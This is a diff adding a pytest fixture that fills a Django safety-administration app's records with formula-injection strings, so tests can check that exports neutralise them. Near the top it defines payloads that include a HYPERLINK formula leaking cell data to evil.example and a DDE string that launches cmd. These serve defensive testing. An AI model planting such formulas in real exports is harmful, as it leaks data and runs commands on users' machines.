@@ -1,0 +1,91 @@
+"""Formula-like, control-character and other hostile text, put into every kind of object a
+download or a list shows, built through the services (a fixture for tests/)."""
+
+from __future__ import annotations
+
+import datetime as dt
+from typing import Any
+
+import pytest
+from django.utils import timezone
+
+from tests.personas import World
+
+MARK = "注入"
+# One payload a field: classic formula, DDE, arithmetic, @-function, full-width, tab, CR, a control char.
+P_EQ = f'=HYPERLINK("http://evil.example/?d="&A1,"{MARK}")'
+P_DDE = f"+cmd|' /C calc'!A0{MARK}"
+P_MINUS = f"-2+3+{MARK}"
+P_AT = f"@SUM(1+1){MARK}"
+P_FULL = f"＝1+1{MARK}"
+P_TAB = f"\t=1+1{MARK}"
+P_CR = f"\r=1+1{MARK}"
+P_CTRL = f"=1\x0b+1{MARK}"  # a vertical tab: python-docx refuses it unless cleaned
+
+
+@pytest.fixture
+def hostile(world: World) -> dict[str, Any]:
+    """Formula-like text in the text fields of every kind of object a download shows, built through
+    the services."""
+    from campaigns import services as campaigns
+    from campaigns.choices import PlanKind, UnitRole
+    from campaigns.twolists import list_item_save
+    from campaigns.units import Resolution, resolve_into
+    from enterprises import services as enterprises
+    from enterprises.credit_code import make_credit_code
+    from escalation.supervision import item_assign
+    from hazards import services as hazards
+    from hazards.choices import Source
+    from ledgers import custom
+    from ledgers import services as ledgers
+    from ledgers.specs import SPECS
+    from ledgers.tests.test_ledgers import SAMPLES
+    from orgs.models import Domain, Jurisdiction, Unit
+    from risk import services as risk
+    from risk.choices import MeasureKind
+    from risk.tests.factories import make_point
+    from workdays import services as workdays
+
+    office = world.user("office")
+    dongshan = Jurisdiction.objects.get(name="东山街道")
+    ent = enterprises.enterprise_create(
+        actor=office, name=f"{P_EQ}企业", credit_code=make_credit_code("91430381XR0000001"), jurisdiction=dongshan,
+        domains=[Domain.objects.get(code="D12")], address=P_DDE, legal_representative=P_MINUS, principal=P_AT,
+        safety_manager=P_FULL, phone="+86 138 0000 0000", industry_code="3110")
+    hazards.hazard_register(actor=office, enterprise=ent, description=P_EQ, source=Source.GOVERNMENT, place=P_TAB,
+                            location=P_CR, reporter=P_MINUS)
+    point = make_point(ent, name=f"{P_EQ}岗位", kind="post", location=P_DDE, description=P_CTRL,
+                       emergency_actions=f"{P_MINUS}\n{P_CTRL}", duties=f"{P_AT}\n{P_CTRL}", responsible=P_FULL)
+    risk.measure_add(actor=None, risk_point=point, kind=MeasureKind.EMERGENCY, level="post", content=P_CTRL,
+                     responsible=P_TAB)
+    risk.report_submit(actor=None, enterprise=ent, note=P_EQ)
+    root = Jurisdiction.objects.get(code="430381")
+    campaign = campaigns.campaign_create(actor=None, name=f"{P_EQ}行动", starts_on=dt.date(2024, 1, 1),
+                                         ends_on=dt.date(2030, 12, 31), office_unit=Unit.objects.get(name="市安委办"),
+                                         jurisdiction=root)
+    plan = campaigns.plan_save(actor=None, campaign=campaign, kind=PlanKind.DOMAIN, code="D12", title=P_DDE,
+                               short_name=P_MINUS, domain=Domain.objects.get(code="D12"), sort=1,
+                               table_caption=P_AT)
+    res = Resolution()
+    resolve_into(res, "东山街道", UnitRole.LEAD)
+    campaigns.task_create(actor=None, plan=plan, title=P_EQ, measures=P_FULL, units=res.assignments,
+                          table_group=P_TAB, number=P_AT, responsibility_text=P_CR, source="table", table_year=2024,
+                          **campaigns.deadline_values(f"{timezone.localdate().year - 1}年3月底", default_year=2024))
+    list_item_save(actor=None, campaign=campaign, unit=Unit.objects.get(name="东山街道"), kind="problem",
+                   item=P_EQ, measure=P_DDE, owner=P_MINUS)
+    item_assign(actor=office, title=P_EQ, assignee=Unit.objects.get(name="东山街道"),
+                deadline=timezone.localdate() + dt.timedelta(days=3), description=P_DDE)
+    for key, spec in SPECS.items():
+        values = dict(SAMPLES[key])
+        text_field = next(n for n in spec.search_fields if not spec.model._meta.get_field(n).choices)
+        values[text_field] = P_EQ[:30] if key != "certificates" else P_DDE[:20]
+        ledgers.row_create(actor=None, model=spec.model, enterprise=ent, **values)
+    definition = custom.definition_save(
+        actor=office, definition=None, enterprises=[ent], jurisdictions=[], name=f"{P_EQ}台账", description="",
+        target="enterprise", domain=None, remind_days=30, active=True,
+        columns=custom.parse_columns(f"+1+1{MARK}栏目|文本|必填\n检测到期|日期|必填|到期"))
+    custom.custom_row_save(actor=None, definition=definition, enterprise=ent,
+                           values={"c1": P_MINUS, "c2": timezone.localdate() + dt.timedelta(days=5)})
+    workdays.year_set_schedule(actor=world.user("sysadmin"), year=2031,
+                               days=[workdays.DayEntry(dt.date(2031, 1, 1), False, f"={MARK}元旦")])
+    return {"enterprise": ent, "point": point, "campaign": campaign, "plan": plan}
